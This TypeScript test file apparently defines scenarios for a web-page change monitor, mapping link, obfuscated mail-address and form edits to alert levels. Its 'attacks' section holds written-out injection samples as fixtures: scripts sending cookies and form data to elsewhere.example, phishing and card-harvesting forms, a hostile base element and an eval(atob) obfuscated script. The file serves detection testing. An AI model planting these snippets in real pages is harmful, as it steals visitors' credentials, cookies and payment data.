// Link targets: another path in the content, another host anywhere, another document; hidden mail addresses; attacks.
import { menuOf, news, office, scope, shop } from "../page.ts";
import { alerted, critical, important, noise, rows, type Scenario, same } from "../scenario.ts";

const link = (href: string) => office(`<p>Here is <a href="${href}">the form</a> you need.</p>`);
const inOffice = (piece: string) => office(piece);

const targets = [
  ...rows("link", link, alerted(), [
    ["a link gets another path", "/forms/passport", "/forms/passport-2027"],
    ["a link gets another document", "/files/fees-2026.pdf", "/files/fees-2027.pdf"],
    [
      "a link gets another document named by a UUID",
      "/files/0b9f7a36-5f3e-4a58-9d0f-2c1f5a0b7d11.pdf",
      "/files/c7d2e1f0-93ab-4c6d-8e5f-a1b2c3d4e5f6.pdf",
    ],
    [
      "a link gets another document named by a hash",
      "/files/9e107d9d372bb6826bd81d3542a419d6.pdf",
      "/files/e4d909c290d0fb1ca068ffaddf22cbd0.pdf",
    ],
    ["a link gets another query", "/search?year=2026", "/search?year=2027"],
    ["a link gets another fragment", "/rules#fees", "/rules#fines"],
    ["an empty link gets a target", "#", "/book"],
    ["a link loses its target", "/book", "#"],
    [
      "a link changes from https to http",
      "https://forms.brackwater.example/a",
      "http://forms.brackwater.example/a",
    ],
    ["a mail link becomes a link to a page", "mailto:office@brackwater.example", "/contact-form"],
    [
      "a mail link gets another address",
      "mailto:office@brackwater.example",
      "mailto:office@brackwater-city.example",
    ],
    ["a telephone link gets another number", "tel:+3512155501", "tel:+3512155599"],
    ["a link to a page becomes a script", "/forms", "javascript:alert(1)"],
  ]),
  ...rows("link", link, alerted(["elsewhere.example"]), [
    ["a relative link changes to another host", "/forms", "https://elsewhere.example/forms"],
    [
      "an absolute link changes to another host",
      "https://forms.brackwater.example/a",
      "https://elsewhere.example/a",
    ],
  ]),
  ...rows("link", inOffice, alerted(["fee table"]), [
    [
      "words become a link",
      "<p>See the fee table first.</p>",
      '<p>See the <a href="/fees">fee table</a> first.</p>',
    ],
    [
      "a link becomes plain words",
      '<p>See the <a href="/fees">fee table</a> first.</p>',
      "<p>See the fee table first.</p>",
    ],
  ]),
  ...rows("link", inOffice, alerted(), [
    [
      "the label of a link gets longer",
      '<p>Read <a href="/fees">the new</a> rules</p>',
      '<p>Read <a href="/fees">the new rules</a></p>',
    ],
    [
      "two links swap their targets",
      '<p><a href="/a">North</a> <a href="/b">South</a></p>',
      '<p><a href="/b">North</a> <a href="/a">South</a></p>',
    ],
    [
      "a second link with the same label is added",
      '<p><a href="/a">Download</a></p>',
      '<p><a href="/a">Download</a> <a href="/b">Download</a></p>',
    ],
    [
      "the link of a button changes",
      '<a class="btn" href="/wait"><button>Go</button></a>',
      '<a class="btn" href="/book"><button>Go</button></a>',
    ],
    [
      "the link of a picture changes",
      '<a href="/a"><img src="/dot.png" alt=""></a>',
      '<a href="/c"><img src="/dot.png" alt=""></a>',
    ],
  ]),
  ...rows(
    "link",
    (href) => news({ footer: `<a href="${href}">Press office</a>` }),
    alerted(["elsewhere.example"]),
    [["a link in the footer changes to another host", "/press", "https://elsewhere.example/press"]],
  ),
  ...rows(
    "link",
    (href) =>
      shop({
        menu: menuOf([
          ["Home", "/"],
          ["Shop", "/shop"],
          ["Pay", href],
        ]),
      }),
    alerted(["elsewhere.example"]),
    [["a link in the menu changes to another host", "/pay", "https://elsewhere.example/pay"]],
  ),
  ...rows("link", (href) => scope(`<p><a href="${href}">our key</a></p>`), alerted(), [
    ["a link to a key gets another path", "/pgp-key.txt", "/pgp-key-2027.txt"],
  ]),
];

const unchanged = [
  ...rows("link", link, noise, [
    [
      "only the tracking parameter of a link changes",
      "/forms?utm_source=%pick:mail|chat|feed%",
      "/forms?utm_source=%pick:mail|chat|feed%",
    ],
    ["only the session ID of a link changes", "/forms;jsessionid=%hex:32%", "/forms;jsessionid=%hex:32%"],
    ["only the token of a link changes", "/forms?token=%base64:43%", "/forms?token=%base64:43%"],
  ]),
];

// Mail addresses as Cloudflare obfuscates them: the same address with two keys, and another address.
const obfuscated = (encoded: string) =>
  office(
    `<p>Write to <a href="/cdn-cgi/l/email-protection" class="__cf_email__" data-cfemail="${encoded}">[email&#160;protected]</a></p>`,
  );
const encode = (address: string, key: number) =>
  Buffer.from([key, ...Buffer.from(address).map((byte) => byte ^ key)]).toString("hex");
const linked = (encoded: string) =>
  office(`<p><a href="/cdn-cgi/l/email-protection#${encoded}">Write to us</a></p>`);

const addresses = [
  ...rows("address", obfuscated, same, [
    [
      "an address is obfuscated with another key",
      encode("office@brackwater.example", 0x2a),
      encode("office@brackwater.example", 0x7f),
    ],
  ]),
  ...rows("address", obfuscated, alerted(["thief@elsewhere.example"]), [
    [
      "another address is obfuscated with the same key",
      encode("office@brackwater.example", 0x2a),
      encode("thief@elsewhere.example", 0x2a),
    ],
  ]),
  ...rows("address", obfuscated, alerted(["registry@brackwater.example"]), [
    [
      "another address is obfuscated with another key",
      encode("office@brackwater.example", 0x2a),
      encode("registry@brackwater.example", 0x51),
    ],
  ]),
  ...rows("address", linked, same, [
    [
      "a linked address is obfuscated with another key",
      encode("office@brackwater.example", 0x2a),
      encode("office@brackwater.example", 0x7f),
    ],
  ]),
  ...rows("address", linked, alerted(), [
    [
      "another linked address is obfuscated with the same key",
      encode("office@brackwater.example", 0x2a),
      encode("thief@elsewhere.example", 0x2a),
    ],
  ]),
];

const form = (action: string) =>
  office(
    `<form method="post" action="${action}"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
  );
const script = (src: string) => shop({ end: src });

const attacks = [
  ...rows("attack", form, critical, [
    ["a form starts to post to another host", "/sign-in", "https://elsewhere.example/collect"],
    [
      "a form starts to post to another host by http",
      "https://login.brackwater.example/in",
      "http://elsewhere.example/in",
    ],
  ]),
  ...rows("attack", (piece) => office(piece), critical, [
    [
      "a form that asks for card data is added",
      "",
      '<form action="https://pay.elsewhere.example/"><input name="card"><input name="cvc"></form>',
    ],
    [
      "a password form that posts to another host is added",
      "",
      '<form method="post" action="https://elsewhere.example/in"><input type="password" name="p"></form>',
    ],
  ]),
  ...rows("attack", script, critical, [
    ["a script from a new host is added", "", '<script src="https://stats.elsewhere.example/t.js"></script>'],
    [
      "an inline script that sends cookies is added",
      "",
      '<script>fetch("https://elsewhere.example/?c="+document.cookie)</script>',
    ],
    [
      "an inline script that sends form data is added",
      "",
      "<script>document.forms[0]&&document.forms[0].addEventListener('submit',e=>navigator.sendBeacon('https://elsewhere.example/x',new FormData(e.target)))</script>",
    ],
  ]),
  ...rows("attack", (piece) => office(piece), important, [
    [
      "an iframe from another host is added",
      "",
      '<iframe src="https://elsewhere.example/frame" width="400" height="300"></iframe>',
    ],
    [
      "an event handler is added to a link",
      '<a href="/book">Book</a>',
      '<a href="/book" onclick="location=\'https://elsewhere.example\'">Book</a>',
    ],
    ["a base element with another host is added", "", '<base href="https://elsewhere.example/">'],
  ]),
  ...rows("attack", script, important, [
    [
      "an obfuscated script is added",
      "",
      "<script>eval(atob('d2luZG93LmVsc2V3aGVyZT0naHR0cHM6Ly9lbHNld2hlcmUuZXhhbXBsZSc='))</script>",
    ],
  ]),
  ...rows("attack", (piece) => news(piece), important, [
    [
      "a link to betting is added",
      "",
      '<p><a href="https://slots.example/">online casino slots jackpot</a></p>',
    ],
  ]),
];

export const links: Scenario[] = [...targets, ...unchanged, ...addresses, ...attacks];
